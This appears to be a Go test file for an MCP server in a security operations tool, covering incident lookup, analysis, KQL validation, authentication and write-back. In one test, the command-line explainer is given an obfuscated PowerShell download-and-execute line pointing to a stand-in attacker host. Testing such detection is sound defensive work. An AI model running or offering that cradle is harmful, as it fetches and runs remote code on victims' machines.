package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/socpilot/socpilot/analysis"
	"github.com/socpilot/socpilot/config"
	"github.com/socpilot/socpilot/kql/gate"
	"github.com/socpilot/socpilot/kql/logs/logstest"
	"github.com/socpilot/socpilot/kql/schema"
	"github.com/socpilot/socpilot/llm/llmtest"
	"github.com/socpilot/socpilot/mcp"
	"github.com/socpilot/socpilot/offline"
	"github.com/socpilot/socpilot/signin/signintest"
	"github.com/socpilot/socpilot/sqlite"
)

var allMCPTools = []string{"analyze_incident", "attack_technique", "explain_command_line", "get_incident", "list_incidents",
	"related_incidents", "table_schema", "validate_kql"}

// mcpInProcess runs `socpilot mcp` with env and args in process, over a
// pair of pipes, and returns an SDK client session on it and its stderr.
func mcpInProcess(t *testing.T, env map[string]string, args ...string) (*sdk.ClientSession, *syncBuffer) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	cr, sw := io.Pipe()
	sr, cw := io.Pipe()
	stderr := &syncBuffer{}
	done := make(chan int, 1)
	go func() {
		done <- run(ctx, append([]string{"mcp"}, args...), streams{in: sr, out: sw, err: stderr}, func(k string) string { return env[k] })
	}()
	cs, err := sdk.NewClient(&sdk.Implementation{Name: "test", Version: "1"}, nil).Connect(ctx, &sdk.IOTransport{Reader: cr, Writer: cw}, nil)
	if err != nil {
		cancel()
		t.Fatalf("connect: %v\n%s", err, stderr)
	}
	t.Cleanup(func() {
		cs.Close()
		cw.Close() // the client closed stdin: socpilot mcp ends
		select {
		case code := <-done:
			if code != exitOK {
				t.Errorf("socpilot mcp exited %d\n%s", code, stderr)
			}
		case <-time.After(10 * time.Second):
			t.Errorf("socpilot mcp did not end when its client left")
		}
		cancel()
	})
	return cs, stderr
}

func mcpCall(t *testing.T, cs *sdk.ClientSession, tool string, args any, out any) *sdk.CallToolResult {
	t.Helper()
	res, err := cs.CallTool(context.Background(), &sdk.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %v", tool, err)
	}
	if out != nil {
		if res.IsError {
			t.Fatalf("%s: %s", tool, mcpText(res))
		}
		b, _ := json.Marshal(res.StructuredContent)
		if err := json.Unmarshal(b, out); err != nil {
			t.Fatalf("%s: %v", tool, err)
		}
	}
	return res
}

func mcpText(res *sdk.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*sdk.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func toolNames(t *testing.T, cs *sdk.ClientSession) []string {
	t.Helper()
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
	}
	slices.Sort(names)
	return names
}

// socpilot mcp wires every tool to the workspace, the offline analyst,
// the KQL validator, the ATT&CK catalog and the write-back of analyze --write.
func TestMCPTools(t *testing.T) {
	env := demoEnv(t)
	env["SOCPILOT_REDACT"] = "false"
	cs, stderr := mcpInProcess(t, env)
	if got := toolNames(t, cs); !slices.Equal(got, allMCPTools) {
		t.Errorf("tools %v, want %v (no write_back without --allow-write)", got, allMCPTools)
	}
	for _, want := range []string{"using the built-in demo workspace", "serving MCP on stdio for demo-workspace"} {
		if !strings.Contains(stderr.String(), want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr)
		}
	}

	var list mcp.ListOutput
	mcpCall(t, cs, "list_incidents", map[string]any{"since": "30d", "top": 3}, &list)
	if list.Source != "demo-workspace" || list.Count != 3 {
		t.Errorf("list: %+v", list)
	}
	var inc mcp.IncidentOutput
	mcpCall(t, cs, "get_incident", map[string]any{"number": 111}, &inc)
	if inc.Incident.Number != 111 || !slices.ContainsFunc(inc.Entities, func(e mcp.EntityOut) bool { return strings.HasPrefix(strings.ToUpper(e.Value), "WS-FIN-023") }) {
		t.Errorf("incident 111: %+v", inc.Incident)
	}
	var an mcp.AnalysisOutput
	mcpCall(t, cs, "analyze_incident", map[string]any{"number": 111}, &an)
	if an.Verdict != "escalate" || an.Source != "offline" || len(an.Queries) == 0 || len(an.Correlations) == 0 {
		t.Errorf("analysis of 111 (credential dumping, lateral movement): verdict %s, %d queries, correlations %v", an.Verdict, len(an.Queries), an.Correlations)
	}
	var rel mcp.RelatedOutput
	mcpCall(t, cs, "related_incidents", map[string]any{"number": 111, "limit": 10}, &rel)
	if len(rel.Correlations) == 0 {
		t.Errorf("111 shares WS-FIN-023 with 102 and 112: got %+v", rel)
	}
	var kq mcp.KQLResult
	mcpCall(t, cs, "validate_kql", map[string]any{"query": "DeviceProcessEvents | where TimeGenerated > ago(1d) | project Timestamp, DeviceNam"}, &kq)
	if kq.Valid || !slices.ContainsFunc(kq.Findings, func(f mcp.KQLFinding) bool {
		return f.Code == "unknown-column" && strings.Contains(f.Suggestion, "DeviceName")
	}) {
		t.Errorf("validate_kql: %+v", kq)
	}
	var tables mcp.TablesResult
	mcpCall(t, cs, "table_schema", map[string]any{"tables": []string{"deviceprocessevents"}}, &tables)
	if len(tables.Tables) != 1 || tables.Tables[0].Name != "DeviceProcessEvents" || len(tables.Tables[0].Columns) < 10 {
		t.Errorf("table_schema: %+v", tables)
	}
	var cl mcp.CommandLineOutput
	mcpCall(t, cs, "explain_command_line", map[string]any{"commandLine": `powershell -c "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcC5wczE=')))"`}, &cl)
	if len(cl.Layers) != 1 || !slices.Contains(cl.URLs, "http://evil.example.com/p.ps1") {
		t.Errorf("explain_command_line: %+v", cl)
	}
	for _, tc := range []struct{ id, technique, tactic string }{
		{"T1003.001", "T1003.001", ""}, {"t1086", "T1059.001", ""}, {"TA0006", "", "TA0006"}, {"Credential Access", "", "TA0006"}, {"Password Spraying", "T1110.003", ""},
	} {
		var at mcp.AttackResult
		mcpCall(t, cs, "attack_technique", map[string]any{"id": tc.id}, &at)
		if tc.technique != "" && (len(at.Techniques) == 0 || at.Techniques[0].ID != tc.technique || len(at.Techniques[0].Tactics) == 0) {
			t.Errorf("attack_technique %s: %+v, want %s with its tactics", tc.id, at.Techniques, tc.technique)
		}
		if tc.tactic != "" && (len(at.Tactics) != 1 || at.Tactics[0].ID != tc.tactic || len(at.Tactics[0].Techniques) == 0) {
			t.Errorf("attack_technique %s: %+v, want tactic %s with its techniques", tc.id, at.Tactics, tc.tactic)
		}
	}
}

// With --allow-write, write_back writes through the path analyze --write
// uses: journaled in the store, and a repeat changes nothing.
func TestMCPWriteBack(t *testing.T) {
	env := demoEnv(t)
	cs, _ := mcpInProcess(t, env, "--allow-write")
	if got := toolNames(t, cs); !slices.Contains(got, "write_back") {
		t.Fatalf("tools %v lack write_back", got)
	}
	var first, second mcp.WriteResult
	mcpCall(t, cs, "write_back", map[string]any{"number": 108}, &first)
	mcpCall(t, cs, "write_back", map[string]any{"number": 108}, &second)
	if first.Created == 0 || second.Created+second.Updated != 0 || second.Unchanged != len(first.Items) {
		t.Fatalf("first %+v, second %+v: want the repeat to leave everything unchanged", first, second)
	}
	// The same comment id as analyze --write: it updates, never duplicates.
	code, stdout, stderr := runCLI(t, env, "", "analyze", "108", "--write")
	if code != exitOK || !strings.Contains(stdout, "0 created") {
		t.Errorf("analyze --write after write_back: exit %d\n%s\n%s", code, stdout, stderr)
	}
	st, err := sqlite.Open(context.Background(), filepath.Join(env["SOCPILOT_STATE_DIR"], "socpilot.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var n int
	if err := st.DB().QueryRow(`SELECT count(*) FROM writes`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	if n < first.Created {
		t.Errorf("journal has %d writes, want at least %d", n, first.Created)
	}
}

// The redact setting applies to what leaves through MCP: on by default
// without a model (as for openai and compatible), off with --redact=false.
func TestMCPPseudonymisation(t *testing.T) {
	for _, tc := range []struct {
		name   string
		args   []string
		hidden bool
	}{{"default", nil, true}, {"--redact=false", []string{"--redact=false"}, false}} {
		t.Run(tc.name, func(t *testing.T) {
			cs, stderr := mcpInProcess(t, demoEnv(t), tc.args...)
			var all bytes.Buffer
			for _, tool := range []string{"get_incident", "analyze_incident"} {
				res := mcpCall(t, cs, tool, map[string]any{"number": 111}, nil)
				b, _ := json.Marshal(res.StructuredContent)
				all.WriteString(mcpText(res))
				all.Write(b)
			}
			res := mcpCall(t, cs, "list_incidents", map[string]any{}, nil)
			all.WriteString(mcpText(res))
			if got := strings.Contains(all.String(), "WS-FIN-023"); got == tc.hidden {
				t.Errorf("WS-FIN-023 in the results: %v, want %v", got, !tc.hidden)
			}
			if got := strings.Contains(stderr.String(), "pseudonymise"); got != tc.hidden {
				t.Errorf("stderr says it pseudonymises: %v, want %v\n%s", got, tc.hidden, stderr)
			}
		})
	}
}

// socpilot mcp as a subprocess, as an agent starts it: stdout carries the
// protocol only, notices go to stderr.
func TestMCPStdioProcess(t *testing.T) {
	if testing.Short() {
		t.Skip("starts processes")
	}
	bin, err := exec.LookPath("socpilot")
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "mcp")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "SOCPILOT_STATE_DIR=" + t.TempDir(), "HTTPS_PROXY=" + trap(t), "HTTP_PROXY=" + trap(t)}
	var stderr syncBuffer
	cmd.Stderr = &stderr
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cs, err := sdk.NewClient(&sdk.Implementation{Name: "test", Version: "1"}, nil).Connect(ctx, &sdk.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatalf("connect: %v\n%s", err, &stderr)
	}
	if got := toolNames(t, cs); !slices.Equal(got, allMCPTools) {
		t.Errorf("tools %v", got)
	}
	var kq mcp.KQLResult
	mcpCall(t, cs, "validate_kql", map[string]any{"query": "SigninLogs | where TimeGenerated > ago(1h) | summarize count() by UserPrincipalName"}, &kq)
	if !kq.Valid || kq.Errors != 0 {
		t.Errorf("a valid query: %+v", kq)
	}
	var inc mcp.IncidentOutput
	mcpCall(t, cs, "get_incident", map[string]any{"number": 101}, &inc)
	if inc.Incident.Number != 101 {
		t.Errorf("get_incident 101: %+v", inc.Incident)
	}
	if err := cs.Close(); err != nil {
		t.Errorf("close: %v", err)
	}
	if cmd.ProcessState == nil || !cmd.ProcessState.Success() {
		t.Errorf("socpilot mcp did not exit 0 when stdin closed: %v\n%s", cmd.ProcessState, &stderr)
	}
	if !strings.Contains(stderr.String(), "serving MCP on stdio") {
		t.Errorf("stderr: %s", &stderr)
	}
}

// serve's /mcp: open for the demo workspace on loopback; behind the
// webhook token once one is set; write_back only with --mcp-allow-write.
func TestServeMCP(t *testing.T) {
	if testing.Short() {
		t.Skip("starts processes")
	}
	t.Run("demo on loopback, no token", func(t *testing.T) {
		p := startServe(t, demoEnv(t))
		cs := mcpHTTP(t, "http://"+p.addr+"/mcp", "")
		if got := toolNames(t, cs); !slices.Equal(got, allMCPTools) {
			t.Errorf("tools %v", got)
		}
		var kq mcp.KQLResult
		mcpCall(t, cs, "validate_kql", map[string]any{"query": "SecurityEvent | where TimeGenerated > ago(1d) | where EventID == 4625"}, &kq)
		if !kq.Valid {
			t.Errorf("validate_kql: %+v", kq)
		}
		if !strings.Contains(p.logs.String(), "MCP /mcp (open on loopback)") {
			t.Errorf("serve does not say where MCP is:\n%s", p.logs)
		}
	})
	t.Run("token", func(t *testing.T) {
		env := demoEnv(t)
		env["SOCPILOT_WEBHOOK_TOKEN"] = serveToken
		p := startServe(t, env, "--mcp-allow-write")
		for _, tok := range []string{"", "wrong"} {
			if code := mcpStatus(t, "http://"+p.addr+"/mcp", tok); code != http.StatusUnauthorized {
				t.Errorf("token %q: status %d, want 401", tok, code)
			}
		}
		cs := mcpHTTP(t, "http://"+p.addr+"/mcp", serveToken)
		if got := toolNames(t, cs); !slices.Contains(got, "write_back") {
			t.Errorf("tools %v lack write_back", got)
		}
		var w mcp.WriteResult
		mcpCall(t, cs, "write_back", map[string]any{"number": 104}, &w)
		if w.Created == 0 {
			t.Errorf("write_back: %+v", w)
		}
	})
	t.Run("workspace on loopback without a token", func(t *testing.T) {
		_, env := networkWorkspace(t)
		p := startServe(t, env)
		if code := mcpStatus(t, "http://"+p.addr+"/mcp", ""); code != http.StatusForbidden {
			t.Errorf("status %d, want 403: a real workspace's incidents need a token", code)
		}
	})
	t.Run("Entra ID token", func(t *testing.T) {
		idp := signintest.New(t, signinClientID, signinSecret)
		p := startServe(t, signInEnv(t, idp, ""), "--mcp-allow-write")
		if code := mcpStatus(t, "http://"+p.addr+"/mcp", idp.AccessToken(signinClientID, time.Hour)); code != http.StatusForbidden {
			t.Errorf("a token without a role: status %d, want 403", code)
		}
		reader := mcpHTTP(t, "http://"+p.addr+"/mcp", idp.AccessToken(signinClientID, time.Hour, "Socpilot.Read"))
		var inc mcp.IncidentOutput
		mcpCall(t, reader, "get_incident", map[string]any{"number": 101}, &inc)
		if res := mcpCall(t, reader, "write_back", map[string]any{"number": 101}, nil); !res.IsError || !strings.Contains(mcpText(res), "may read but not write") {
			t.Errorf("a reader's write_back: %s", mcpText(res))
		}
		writer := mcpHTTP(t, "http://"+p.addr+"/mcp", idp.AccessToken(signinClientID, time.Hour, "Socpilot.Write"))
		var w mcp.WriteResult
		mcpCall(t, writer, "write_back", map[string]any{"number": 101}, &w)
		if w.Number != 101 {
			t.Errorf("a writer's write_back: %+v", w)
		}
	})
}

// mountMCP refuses /mcp for a workspace's incidents without a way to
// authenticate callers, even on loopback.
func TestMountMCPRefusesWithoutToken(t *testing.T) {
	mux := http.NewServeMux()
	var said []string
	at, err := mountMCP(mux, mcpMount{cfg: &config.Config{}, listen: "127.0.0.1:8080", backend: nil, notice: func(f string, a ...any) { said = append(said, f) }})
	if err != nil || at != "" {
		t.Fatalf("no backend: %q %v", at, err)
	}
	f := newFactory(streams{in: strings.NewReader(""), out: io.Discard, err: io.Discard}, func(k string) string { return demoEnv(t)[k] })
	b, err := f.backend(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	at, err = mountMCP(mux, mcpMount{cfg: &config.Config{}, listen: "127.0.0.1:8080", demo: false, backend: b, notice: func(f string, a ...any) { said = append(said, f) }})
	if err != nil || !strings.Contains(at, "refused") || len(said) == 0 {
		t.Fatalf("got %q %v %v", at, err, said)
	}
	rec := httptest.NewRecorder()
	mux.ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/mcp", strings.NewReader("{}")))
	if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "SOCPILOT_WEBHOOK_TOKEN") {
		t.Errorf("status %d %q", rec.Code, rec.Body)
	}
}

func mcpHTTP(t *testing.T, url, token string) *sdk.ClientSession {
	t.Helper()
	hc := &http.Client{Transport: bearerTransport{token}}
	cs, err := sdk.NewClient(&sdk.Implementation{Name: "test", Version: "1"}, nil).Connect(context.Background(),
		&sdk.StreamableClientTransport{Endpoint: url, HTTPClient: hc, DisableStandaloneSSE: true}, nil)
	if err != nil {
		t.Fatalf("connect to %s: %v", url, err)
	}
	t.Cleanup(func() { cs.Close() })
	return cs
}

// mcpStatus is the HTTP status of an initialize request to /mcp.
func mcpStatus(t *testing.T, url, token string) int {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, url, strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

type bearerTransport struct{ token string }

func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	if b.token != "" {
		r.Header.Set("Authorization", "Bearer "+b.token)
	}
	return http.DefaultTransport.RoundTrip(r)
}

// Where SOCPILOT_WORKSPACE_ID is set, validate_kql and table_schema read
// the workspace's own tables and saved functions: a custom table it has
// passes, one it lacks is an error, and the saved functions are read once.
func TestMCPLiveSchema(t *testing.T) {
	ws := schema.New()
	ws.AddTable(schema.Table{Name: "ContosoApp_CL", Columns: []schema.Column{{Name: "TimeGenerated", Type: "datetime"}, {Name: "UserName_s", Type: "string"}}})
	la := logstest.New(t, ws)
	la.WorkspaceID = "11111111-2222-3333-4444-555555555555"
	_, env := networkWorkspace(t)
	env["SOCPILOT_WORKSPACE_ID"] = la.WorkspaceID
	env["SOCPILOT_LOGS_ENDPOINT"] = la.URL
	cs, stderr := mcpInProcess(t, env)
	for _, tc := range []struct {
		query string
		valid bool
		code  string
	}{
		{"ContosoApp_CL | where TimeGenerated > ago(1d) | where UserName_s == 'adele'", true, ""},
		{"ContosoApp_CL | where TimeGenerated > ago(1d) | where UserNam_s == 'adele'", false, "unknown-column"},
		{"OtherApp_CL | where TimeGenerated > ago(1d)", false, "unknown-table"},
	} {
		var r mcp.KQLResult
		mcpCall(t, cs, "validate_kql", map[string]any{"query": tc.query}, &r)
		if r.Valid != tc.valid || !tc.valid && !slices.ContainsFunc(r.Findings, func(f mcp.KQLFinding) bool { return f.Code == tc.code && f.Severity == "error" }) {
			t.Errorf("%s: %+v\n%s", tc.query, r, stderr)
		}
		if !strings.Contains(r.Schema, "the workspace's tables") {
			t.Errorf("schema %q", r.Schema)
		}
	}
	var tables mcp.TablesResult
	mcpCall(t, cs, "table_schema", map[string]any{"tables": []string{"ContosoApp_CL"}}, &tables)
	if len(tables.Tables) != 1 || !tables.Tables[0].Found || len(tables.Tables[0].Columns) != 2 {
		t.Errorf("table_schema: %+v", tables)
	}
	if n := la.MetadataRequests(); n != 1 {
		t.Errorf("saved functions read %d times, want once", n)
	}
}

// An incident is found by its Defender portal id too, and on the graph
// backend queries are checked as advanced hunting runs them.
func TestMCPDefender(t *testing.T) {
	env := demoEnv(t)
	env["SOCPILOT_REDACT"] = "false"
	cs, _ := mcpInProcess(t, env)
	var inc mcp.IncidentOutput
	mcpCall(t, cs, "get_incident", map[string]any{"number": 48602}, &inc)
	if inc.Incident.Number != 111 || inc.Incident.DefenderID != "48602" {
		t.Errorf("Defender id 48602: %+v, want incident 111", inc.Incident)
	}

	env = demoEnv(t)
	env["SOCPILOT_BACKEND"] = "graph"
	cs, _ = mcpInProcess(t, env)
	var kq mcp.KQLResult
	mcpCall(t, cs, "validate_kql", map[string]any{"query": "DeviceProcessEvents | where TimeGenerated > ago(1d)"}, &kq)
	if kq.Valid || len(kq.Findings) != 1 || kq.Findings[0].Code != "time-column" || !strings.Contains(kq.Findings[0].Suggestion, "Timestamp") {
		t.Errorf("advanced hunting has Timestamp, not TimeGenerated: %+v", kq)
	}
	var list mcp.ListOutput
	mcpCall(t, cs, "list_incidents", map[string]any{"top": 2}, &list)
	if list.Count != 2 || !strings.Contains(list.Source, "Graph") {
		t.Errorf("graph list: %+v", list)
	}
}

// Where a model is configured analyze_incident gives its analysis (on the
// offline facts), offline: true does not call it, and a failing model
// gives the offline analysis marked with why, not an error.
func TestMCPAnalyzeWithModel(t *testing.T) {
	srv := llmtest.New(t).ReplyJSON(map[string]any{
		"summary":        "Password spray from Tor exit relays, then a single-factor sign-in that worked.",
		"whyItMatters":   "An account may be in the attacker's hands.",
		"verdict":        "escalate",
		"verdictReasons": []string{"a successful sign-in followed the spray"},
		"checklist":      []map[string]any{{"title": "Revoke sessions", "description": "Now.", "phase": "contain", "entities": []string{}, "action": map[string]any{"verb": "none", "entity": ""}}},
		"queries":        []map[string]any{},
	})
	cs, _ := mcpInProcess(t, modelEnv(t, srv))
	var an mcp.AnalysisOutput
	mcpCall(t, cs, "analyze_incident", map[string]any{"number": 101}, &an)
	if an.Source != "model" || an.Model != "compatible:test-model" || !strings.Contains(an.Summary, "Password spray from Tor exit relays") {
		t.Errorf("with a model: source %q model %q summary %q", an.Source, an.Model, an.Summary)
	}
	calls := len(srv.Requests())
	mcpCall(t, cs, "analyze_incident", map[string]any{"number": 102, "offline": true}, &an)
	if an.Source != "offline" || len(srv.Requests()) != calls {
		t.Errorf("offline: true: source %q, %d model calls, want none", an.Source, len(srv.Requests())-calls)
	}

	cs, _ = mcpInProcess(t, modelEnv(t, llmtest.New(t).Garbage()))
	res := mcpCall(t, cs, "analyze_incident", map[string]any{"number": 101}, &an)
	if res.IsError || an.Source != "offline" || an.Fallback == "" {
		t.Errorf("a failing model: error %v, source %q, fallback %q; want the offline analysis marked", res.IsError, an.Source, an.Fallback)
	}
}

// With several workspaces each /w/NAME/mcp writes back with that
// workspace's write setting, as its console and its jobs do.
func TestServeMCPWritePolicyPerWorkspace(t *testing.T) {
	_, emea := emulatedWorkspace(t, "11111111-1111-1111-1111-111111111111", "soc-emea", "emea-sentinel")
	_, apac := emulatedWorkspace(t, "22222222-2222-2222-2222-222222222222", "soc-apac", "apac-sentinel")
	g := gate.New(nil)
	an := &analysis.Analyzer{Facts: offline.New(offline.Options{HasTable: g.HasTable}), Queries: g}
	targets := []served{
		{ws: emea.Workspace(), client: emea, policy: config.Policy{Write: []string{"comment"}}},
		{ws: apac.Workspace(), client: apac, policy: config.Policy{Write: []string{"tasks"}}},
	}
	o := &serveOptions{IO: streams{in: strings.NewReader(""), out: io.Discard, err: io.Discard}, listen: "127.0.0.1:0", mcpAllowWrite: true}
	cfg := &config.Config{StateDir: t.TempDir()}
	cfg.Serve.WebhookToken = serveToken
	mux := http.NewServeMux()
	if _, err := serveMCP(mux, o, cfg, targets, consoleGate{}, an); err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(mux)
	t.Cleanup(hs.Close)
	for path, want := range map[string]string{"/w/emea-sentinel/mcp": "comment", "/w/apac-sentinel/mcp": "task"} {
		var w mcp.WriteResult
		mcpCall(t, mcpHTTP(t, hs.URL+path, serveToken), "write_back", map[string]any{"number": 103}, &w)
		kinds := map[string]bool{}
		for _, it := range w.Items {
			if it.Result != "skipped" {
				kinds[it.Kind] = true
			}
		}
		if len(kinds) != 1 || !kinds[want] {
			t.Errorf("%s wrote %v, want only its workspace's %s: %+v", path, kinds, want, w.Items)
		}
	}
}
